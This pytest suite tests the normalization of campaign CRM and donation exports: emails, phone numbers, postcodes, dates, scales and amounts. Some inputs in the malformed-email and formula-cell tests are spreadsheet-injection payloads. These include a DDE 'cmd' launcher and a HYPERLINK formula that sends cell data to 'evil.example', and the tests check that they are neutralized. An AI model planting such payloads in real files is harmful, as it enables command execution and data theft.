"""Normalization: identifiers, placement, dates, scales and vocabularies, formula cells."""

from __future__ import annotations

import csv
import io
import random
import traceback
from dataclasses import replace
from datetime import date
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pandas as pd
import pytest

from core.errors import InputFileError
from core.vocabulary import AGE_BANDS, CHANNELS, DONATION_METHODS, RESULTS
from transforms.normalize import (
    COMMON_COLUMNS,
    KIND_COLUMNS,
    normalize_chunk,
    normalize_email,
    normalize_phones,
    parse_amount,
)
from transforms.phones import OVERSEAS_PREFIXES, parse_phone
from transforms.read import read_chunks
from transforms.sources import DONATIONS, FR_CANVASS, NATIONBUILDER_PEOPLE, VAN_CONTACTS


def raw_frame(profile: Any, rows: list[dict[str, str | None]]) -> pd.DataFrame:
    """A chunk as read_chunks yields it: every internal field, strings, row_number."""
    data: dict[str, list[Any]] = {f: [r.get(f) for r in rows] for f in profile.fields}
    frame = pd.DataFrame(data, dtype="str")
    frame["row_number"] = pd.Series(range(2, len(rows) + 2), dtype="int64")
    return frame


def people(rows: list[dict[str, str | None]], **kw: Any) -> tuple[pd.DataFrame, Any]:
    base = {"source_id": "1", "created_at": "01/15/2026"}
    return normalize_chunk(raw_frame(NATIONBUILDER_PEOPLE, [{**base, **r} for r in rows]),
                           NATIONBUILDER_PEOPLE, "nb.csv", **kw)


def contacts(rows: list[dict[str, str | None]], profile: Any = VAN_CONTACTS
             ) -> tuple[pd.DataFrame, Any]:
    base = {"source_id": "7", "contact_date": "10/02/2026" if profile is FR_CANVASS
            else "03/02/2026"}
    return normalize_chunk(raw_frame(profile, [{**base, **r} for r in rows]), profile, "c.csv")


def donations(rows: list[dict[str, str | None]], profile: Any = DONATIONS
              ) -> tuple[pd.DataFrame, Any]:
    base = {"source_id": "9", "donation_date": "2026-02-14", "amount": "10", "method": "card"}
    return normalize_chunk(raw_frame(profile, [{**base, **r} for r in rows]), profile, "d.csv")


def values(series: pd.Series) -> list[Any]:
    return [None if pd.isna(v) else v for v in series]


# --------------------------------------------------------------------------- emails


def test_emails_are_trimmed_nfkc_and_lowercased() -> None:
    got = normalize_email(pd.Series([" Zephyrine.Q@Canary-Mail.FR ", "ＪＯＨＮ＠ＥＸＡＭＰＬＥ．ＦＲ",
                                     "'anne@example.org", "élodie@exemple.fr", None]))
    assert values(got) == ["zephyrine.q@canary-mail.fr", "john@example.fr", "anne@example.org",
                           "élodie@exemple.fr", None]


@pytest.mark.parametrize("bad", ["no-at-sign", "a@b", "a@@b.fr", "a b@c.fr", "@example.org",
                                 "=cmd|' /C calc'!A0@x.fr", "+33612345678", "-x@example.org",
                                 "x@example.f", "x@.example.org", ""])
def test_malformed_emails_become_missing(bad: str) -> None:
    assert values(normalize_email(pd.Series([bad]))) == [None]


def test_bad_emails_are_counted() -> None:
    _, stats = people([{"email": "ok@example.org"}, {"email": "not an email"}, {"email": None}])
    assert stats.bad_email == 1


# --------------------------------------------------------------------------- phones

FRENCH_FORMS = ["06 12 34 56 78", "0612345678", "+33 6 12 34 56 78", "+33612345678",
                "0033612345678", "06.12.34.56.78", "06-12-34-56-78", "+33 (0)6 12 34 56 78",
                "'0612345678", "(+33) 6 12 34 56 78"]


def test_every_french_form_gives_the_same_e164() -> None:
    assert values(normalize_phones(pd.Series(FRENCH_FORMS))) == ["+33612345678"] * len(FRENCH_FORMS)


@pytest.mark.parametrize(("forms", "e164"), [
    (["0262 12 34 56", "+262 262 12 34 56", "00262262123456"], "+262262123456"),  # Réunion
    (["0692 12 34 56", "+262 692 12 34 56"], "+262692123456"),
    (["0690 12 34 56", "+590 690 12 34 56", "00590690123456"], "+590690123456"),  # Guadeloupe
    (["0590 27 12 34", "+590 590 27 12 34"], "+590590271234"),
    (["0696 12 34 56", "+596 696 12 34 56"], "+596696123456"),  # Martinique
    (["0694 20 12 34", "+594 694 20 12 34"], "+594694201234"),  # Guyane
    (["0639 01 23 45", "+262 639 01 23 45"], "+262639012345"),  # Mayotte
])
def test_overseas_numbers_keep_their_own_country_code(forms: list[str], e164: str) -> None:
    assert values(normalize_phones(pd.Series(forms))) == [e164] * len(forms)


def test_foreign_and_invalid_phones() -> None:
    got = normalize_phones(pd.Series(["+44 20 7946 0958", "+1 415 555 2671", "12345", "abc",
                                      "06 12 34", "07 11 22 33 44", "", None]))
    assert values(got) == ["+442079460958", "+14155552671"] + [None] * 6


def test_bad_phones_are_counted_across_both_columns() -> None:
    _, stats = people([{"phone": "06 12 34 56 78", "phone2": "n/a"}, {"phone": "123"},
                       {"phone": None, "phone2": "+33 7 81 22 33 44"}])
    assert stats.bad_phone == 2


def test_fast_path_agrees_with_phonenumbers() -> None:
    """Over random national numbers the vectorized path gives what phonenumbers gives
    (overseas prefixes excepted: phonenumbers reads a national 0690 as French and invalid)."""
    rng = random.Random(20260101)
    nsns = [str(rng.randrange(100_000_000, 1_000_000_000)) for _ in range(1500)]
    nsns += [f"6{rng.randrange(10**8):08d}" for _ in range(500)]  # mobiles, where the data is
    nsns += [f"{p}{rng.randrange(10**6):06d}" for p in OVERSEAS_PREFIXES for _ in range(20)]
    national = values(normalize_phones(pd.Series(["0" + n for n in nsns])))
    international = values(normalize_phones(pd.Series(["+33" + n for n in nsns])))
    for nsn, got_national, got_international in zip(nsns, national, international, strict=True):
        assert got_international == parse_phone("+33" + nsn), nsn
        if nsn[:3] in OVERSEAS_PREFIXES:
            code = OVERSEAS_PREFIXES[nsn[:3]]
            assert got_national in (parse_phone(f"+{code}{nsn}"), parse_phone("0" + nsn)), nsn
        else:
            assert got_national == parse_phone("0" + nsn), nsn
    assert sum(v is not None for v in national) > 500  # the sample holds valid numbers


# --------------------------------------------------------------------------- placement


@pytest.mark.parametrize(("postcode", "commune", "departement", "region"), [
    ("75011", "75111", "75", "11"),  # Paris 11e: an arrondissement, département 75
    ("75001", "75101", "75", "11"),
    ("20090", "2A004", "2A", "94"),  # Ajaccio: Corse-du-Sud, never "20"
    ("20000", None, "2A", "94"),  # two communes, one département
    ("20200", None, "2B", "94"),  # Haute-Corse
    ("97100", "97105", "971", "01"),  # Basse-Terre, Guadeloupe
    ("97400", "97411", "974", "04"),  # Saint-Denis, La Réunion
    ("69003", "69383", "69", "84"),
    (" 75 011 ", "75111", "75", "11"),
    ("'13001", "13201", "13", "93"),
    ("01000", None, "01", "84"),
])
def test_postcodes_are_placed_through_la_poste(postcode: str, commune: str | None,
                                               departement: str, region: str) -> None:
    frame, stats = people([{"postcode": postcode}])
    assert values(frame["commune"]) == [commune]
    assert values(frame["departement"]) == [departement]
    assert values(frame["region"]) == [region]
    assert stats.unplaced == 0


@pytest.mark.parametrize("postcode", ["1000", "98000", "99999", "7501", "750011", "ABCDE", None])
def test_unplaceable_postcodes_are_counted_never_guessed(postcode: str | None) -> None:
    frame, stats = people([{"postcode": postcode}, {"postcode": "75011"}])
    assert values(frame["departement"]) == [None, "75"]
    assert values(frame["region"]) == [None, "11"]
    assert stats.unplaced == 1


def test_insee_code_wins_over_postcode() -> None:
    profile = replace(NATIONBUILDER_PEOPLE, fields=MappingProxyType(
        {**NATIONBUILDER_PEOPLE.fields, "insee_code": "location_citycode"}))
    raw = raw_frame(profile, [
        {"source_id": "1", "insee_code": "2b033", "postcode": "75011"},
        {"source_id": "2", "insee_code": "99999", "postcode": "75011"},
        {"source_id": "3", "insee_code": "75056", "postcode": None},
    ])
    frame, stats = normalize_chunk(raw, profile, "x.csv", reference_date=date(2026, 1, 1))
    assert values(frame["commune"]) == ["2B033", "75111", "75056"]
    assert values(frame["departement"]) == ["2B", "75", "75"]
    assert stats.unplaced == 0


# --------------------------------------------------------------------------- ages, weeks, months


@pytest.mark.parametrize(("born", "band"), [
    ("04/23/1961", "65-74"), ("04/24/1961", "55-64"), ("4/24/1961", "55-64"),
    ("04/23/2008", "18-24"), ("04/24/2008", None), ("01/01/1900", None),
    ("04/23/1951", "75+"), ("12/31/1991", "25-34"), ("04/23/1961 00:00", "65-74"), (None, None),
])
def test_age_bands_at_the_reference_date(born: str | None, band: str | None) -> None:
    frame, _ = people([{"birth_date": born}], reference_date=date(2026, 4, 23))
    assert values(frame["age_band"]) == [band]
    assert band is None or band in AGE_BANDS


def test_reference_date_defaults_to_the_files_newest_created_at() -> None:
    rows = [{"birth_date": "03/01/1990", "created_at": "02/28/2026"},
            {"birth_date": "03/01/1990", "created_at": "03/01/2026"}]
    frame, _ = people(rows)
    assert values(frame["age_band"]) == ["35-44", "35-44"]  # 36 on 2026-03-01 for both rows
    assert values(frame["created_month"]) == ["2026-02", "2026-03"]
    raw = raw_frame(NATIONBUILDER_PEOPLE, [{"source_id": "1", **rows[0]}])
    raw.attrs["reference_date"] = date(2026, 2, 28)  # what read_chunks sets: the whole file's
    frame, _ = normalize_chunk(raw, NATIONBUILDER_PEOPLE, "nb.csv")
    assert values(frame["age_band"]) == ["35-44"]
    raw.attrs["reference_date"] = date(2025, 2, 28)
    frame, _ = normalize_chunk(raw, NATIONBUILDER_PEOPLE, "nb.csv")
    assert values(frame["age_band"]) == ["25-34"]


@pytest.mark.parametrize(("day", "week"), [
    ("12/31/2024", "2025-W01"), ("01/01/2021", "2020-W53"), ("12/28/2026", "2026-W53"),
    ("01/04/2027", "2027-W01"), ("03/02/2026", "2026-W10"),
])
def test_contact_dates_become_iso_weeks(day: str, week: str) -> None:
    frame, _ = contacts([{"contact_date": day}])
    assert values(frame["week"]) == [week]


def test_unparseable_dates_are_rejected_with_row_and_column() -> None:
    with pytest.raises(InputFileError) as caught:
        people([{"birth_date": "04/23/1961"}, {"birth_date": "23/04/1961"}])
    err = caught.value  # mm/dd then dd/mm in one column: mixed orders (issue #15)
    assert (err.rule, err.row, err.column) == ("date_order", 3, "born_at")
    assert "23/04/1961" not in str(err)
    with pytest.raises(InputFileError) as caught:
        people([{"birth_date": "04/23/1961"}, {"birth_date": "1961-04-23 not a time"}])
    assert (caught.value.rule, caught.value.row) == ("date_format", 3)
    with pytest.raises(InputFileError) as caught:
        people([{"birth_date": "02/30/1990"}])  # no rolling over to March
    assert caught.value.rule == "date_format"
    with pytest.raises(InputFileError) as caught:
        contacts([{}, {"contact_date": None}])  # a contact without its date
    assert (caught.value.rule, caught.value.row, caught.value.column) == \
        ("date_format", 3, "DateCanvassed")


# --------------------------------------------------------------------------- scales, vocabularies


def test_van_survey_and_french_intention_scales() -> None:
    frame, _ = contacts([{"support_level": v} for v in
                         ["1 - Strong Support", "2 - Lean Support", "1-Strong Dupont",
                          "5 - Strong Oppose", "3", "Undecided", "", "10", "6 - Other"]])
    assert values(frame["support_level"]) == [1, 2, 1, 5, 3, None, None, None, None]
    assert str(frame["support_level"].dtype) == "Int8"
    frame, _ = contacts([{"support_level": "4"}, {"support_level": None}], FR_CANVASS)
    assert values(frame["support_level"]) == [4, None]
    frame, _ = people([{"support_level": "2"}, {"support_level": "'5"}, {"support_level": "0"}])
    assert values(frame["support_level"]) == [2, 5, None]


@pytest.mark.parametrize(("raw", "code"), [
    ("Canvassed", "contacted"), ("Not Home", "not_home"), ("Refused", "refused"),
    ("Moved", "moved"), ("Wrong Number", "wrong_number"), ("Left Message", "left_message"),
    ("Hostile", "hostile"), ("Come Back", "come_back"), ("language barrier", "language_barrier"),
    ("  NOT   HOME ", "not_home"), ("Abducted by aliens", "other"), ("", "other"),
    ("=1+1", "other"),
])
def test_van_results(raw: str, code: str) -> None:
    frame, _ = contacts([{"result": raw}])
    assert values(frame["result"]) == [code]


@pytest.mark.parametrize(("raw", "code"), [
    ("Contacté", "contacted"), ("Contacte\u0301", "contacted"), ("Absent", "not_home"),
    ("Refus", "refused"), ("Déménagé", "moved"), ("Ne pas déranger", "do_not_disturb"),
    ("Chien méchant", "other"),
])
def test_french_results(raw: str, code: str) -> None:
    frame, _ = contacts([{"result": raw}], FR_CANVASS)
    assert values(frame["result"]) == [code]


def test_channels_and_canvassers() -> None:
    frame, _ = contacts([{"channel": "Walk", "canvasser_id": "  Jean   MILITANT "},
                         {"channel": "Phone", "canvasser_id": None},
                         {"channel": "SMS", "canvasser_id": "jean militant"},
                         {"channel": "Carrier pigeon", "canvasser_id": "@jean"}])
    assert values(frame["channel"]) == ["door", "phone", "sms", "other"]
    assert values(frame["canvasser_id"]) == ["van:canvasser:jean militant", None,
                                             "van:canvasser:jean militant", "van:canvasser:@jean"]
    frame, _ = contacts([{"canvasser_id": "Hélène Militante"}], FR_CANVASS)
    assert values(frame["channel"]) == ["door"]  # the French app is door-to-door
    assert values(frame["canvasser_id"]) == ["pap:canvasser:hélène militante"]


# --------------------------------------------------------------------------- donations


@pytest.mark.parametrize(("text", "decimal", "cents"), [
    ("50.00", ".", 5000), ("50", ".", 5000), ("1,234.56", ".", 123456), ("0.5", ".", 50),
    ("12.3", ".", 1230), ("50,5", ",", 5050), ("1 234,56", ",", 123456),
    ("1.234,56", ",", 123456), ("1\u202f234,56", ",", 123456), ("€ 20", ".", 2000),
    ("20 EUR", ".", 2000),
])
def test_amounts_follow_the_decimal_mark(text: str, decimal: str, cents: int) -> None:
    assert parse_amount(text, decimal) == (cents, None)


@pytest.mark.parametrize(("text", "decimal", "rule"), [
    ("50,00", ".", "amount_format"), ("50.00", ",", "amount_format"), ("1.234", ".", "amount_format"),
    ("12.345", ".", "amount_format"), ("abc", ".", "amount_format"), ("=1+1", ".", "amount_format"),
    ("+50", ".", "amount_format"), ("-5", ".", "negative_amount"), ("(5.00)", ".", "negative_amount"),
    ("-x", ".", "amount_format"),
])
def test_bad_amounts(text: str, decimal: str, rule: str) -> None:
    assert parse_amount(text, decimal) == (None, rule)


def test_donation_rows() -> None:
    frame, _ = donations([{"amount": "50.00", "method": "Card", "recurring": "true"},
                          {"amount": "1,234.56", "method": "chèque", "recurring": "no",
                           "donation_date": "2025-12-31"},
                          {"amount": "5", "method": "bitcoin", "recurring": None}])
    assert frame["amount_cents"].tolist() == [5000, 123456, 500]
    assert frame["amount_cents"].dtype == "int64"
    assert values(frame["month"]) == ["2026-02", "2025-12", "2026-02"]
    assert values(frame["method"]) == ["card", "cheque", "other"]
    assert set(values(frame["method"])) <= set(DONATION_METHODS)
    assert values(frame["recurring"]) == [True, False, None]


@pytest.mark.parametrize(("amount", "rule"), [("-20.00", "negative_amount"),
                                              ("20,00", "amount_format"), (None, "amount_format")])
def test_bad_donation_amounts_name_row_and_column(amount: str | None, rule: str) -> None:
    with pytest.raises(InputFileError) as caught:  # 10.50 proves '.': 20,00 is then wrong
        donations([{"amount": "10.50"}, {"amount": "10"}, {"amount": amount}])
    err = caught.value
    assert (err.rule, err.row, err.column) == (rule, 4, "amount")
    assert "20" not in str(err).replace("d.csv", "")


# --------------------------------------------------------------------------- lawful basis


def test_do_not_contact_removes_the_lawful_basis() -> None:
    frame, stats = people([{"do_not_contact": "true"}, {"do_not_contact": "false"},
                           {"do_not_contact": None}, {"do_not_contact": "1"}])
    assert frame["lawful_basis"].tolist() == [False, True, True, False]
    assert frame["lawful_basis"].dtype == bool
    assert stats.no_lawful_basis == 2


def test_a_source_without_basis_and_a_consent_policy() -> None:
    bought = replace(NATIONBUILDER_PEOPLE, lawful_basis="none")
    raw = raw_frame(bought, [{"source_id": "1", "created_at": "01/01/2026"}] * 3)
    frame, stats = normalize_chunk(raw, bought, "bought.csv")
    assert not frame["lawful_basis"].any() and stats.no_lawful_basis == 3
    consent = replace(NATIONBUILDER_PEOPLE, lawful_basis="consent_column",
                      consent_column="analytics_ok")
    raw = raw_frame(consent, [{"source_id": str(i), "created_at": "01/01/2026"} for i in range(4)])
    raw["consent"] = pd.Series(["oui", "non", None, "yes"], dtype="str")
    frame, stats = normalize_chunk(raw, consent, "c.csv")
    assert frame["lawful_basis"].tolist() == [True, False, False, True]


# --------------------------------------------------------------------------- schema, formulas


@pytest.mark.parametrize("profile", [NATIONBUILDER_PEOPLE, VAN_CONTACTS, FR_CANVASS, DONATIONS])
def test_only_the_declared_columns_come_out(profile: Any) -> None:
    base = {"source_id": "1", "created_at": "01/01/2026", "contact_date": profile.date_format
            .replace("%m", "01").replace("%d", "02").replace("%Y", "2026"),
            "donation_date": "2026-01-02", "amount": "1", "method": "card"}
    frame, _ = normalize_chunk(raw_frame(profile, [base]), profile, "f.csv")
    assert list(frame.columns) == list(COMMON_COLUMNS + KIND_COLUMNS[profile.kind])


def test_formula_cells_never_reach_the_output_unescaped() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    frame, _ = people([{"source_id": formula, "email": "=cmd@example.org", "phone": "+1-800=1+1",
                        "postcode": "=1+1", "support_level": "=1", "is_volunteer": "@SUM(A1)",
                        "birth_date": None, "created_at": "01/01/2026"},
                       {"source_id": "-2+3", "email": "@x.org", "phone": "-1"}])
    assert values(frame["source_id"]) == ["nb:" + formula, "nb:-2+3"]  # hashed next
    for column in frame.columns:
        if column in ("source_id", "row_number", "lawful_basis"):
            continue
        for value in values(frame[column]):
            if isinstance(value, str):
                assert column in ("phone", "phone2") or value[0] not in "=+-@", (column, value)
                assert column not in ("phone", "phone2") or value[1:].isdigit()
    contact, _ = contacts([{"result": "=1+1", "channel": "+cmd", "canvasser_id": "=evil()"}])
    assert values(contact["result"]) == ["other"] and values(contact["channel"]) == ["other"]
    assert values(contact["canvasser_id"]) == ["van:canvasser:=evil()"]
    assert set(values(contact["result"])) <= set(RESULTS)
    assert set(values(contact["channel"])) <= set(CHANNELS)


# --------------------------------------------------------------------------- whole files


def _nb_export(path: Path, n: int) -> Path:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["nationbuilder_id", "first_name", "email", "phone_number", "mobile_number",
                     "primary_zip", "born_at", "support_level", "is_volunteer", "email_opt_in",
                     "created_at", "do_not_contact", "note"])
    zips = ["75011", "20000", "97100", "1000", "69003"]
    for i in range(n):
        writer.writerow([str(i), f"Name{i}", f" P{i}@Example.ORG", f"06 12 34 {i % 100:02d} 78",
                         "+262 692 12 34 56" if i % 3 == 0 else "", zips[i % 5],
                         f"{1 + i % 12:02d}/{1 + i % 28:02d}/{1940 + i % 70}", str(i % 7),
                         "true" if i % 2 else "false", "yes", f"{1 + i % 12:02d}/15/2025",
                         "true" if i % 11 == 0 else "false", f"free text {i}\nsecond line"])
    path.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode())
    return path


def test_chunked_normalization_equals_one_chunk(tmp_path: Path) -> None:
    path = _nb_export(tmp_path / "nationbuilder.csv", 57)

    def run(chunk_rows: int) -> tuple[pd.DataFrame, list[int]]:
        frames, totals = [], [0, 0, 0, 0, 0]
        for raw in read_chunks(path, NATIONBUILDER_PEOPLE, chunk_rows=chunk_rows):
            frame, stats = normalize_chunk(raw, NATIONBUILDER_PEOPLE, path.name)
            frames.append(frame)
            for i, v in enumerate((stats.rows, stats.unplaced, stats.no_lawful_basis,
                                   stats.bad_email, stats.bad_phone)):
                totals[i] += v
        return pd.concat(frames, ignore_index=True), totals

    whole, totals = run(10_000)
    assert totals == [57, 11, 6, 0, 0]  # postcode "1000" unplaced; do_not_contact
    assert whole["row_number"].tolist() == [2 + 2 * i for i in range(57)]  # notes span 2 lines
    for size in (4, 13):
        chunked, chunk_totals = run(size)
        pd.testing.assert_frame_equal(chunked, whole)
        assert chunk_totals == totals
    assert set(whole["age_band"].dropna()) <= set(AGE_BANDS)
    assert not whole.astype(str).apply(lambda c: c.str.contains("Name|free text")).any().any()


def test_errors_from_normalization_keep_values_out(tmp_path: Path) -> None:
    path = _nb_export(tmp_path / "nationbuilder.csv", 5)
    text = path.read_bytes().decode("utf-8-sig").replace("03/03/1942", "1942-03-03 zzcanaryzz")
    path.write_bytes(text.encode())
    with pytest.raises(InputFileError) as caught:
        for raw in read_chunks(path, NATIONBUILDER_PEOPLE):
            normalize_chunk(raw, NATIONBUILDER_PEOPLE, path.name)
    assert (caught.value.rule, caught.value.row, caught.value.column) == \
        ("date_format", 6, "born_at")
    assert "zzcanaryzz" not in "".join(traceback.format_exception(caught.value))
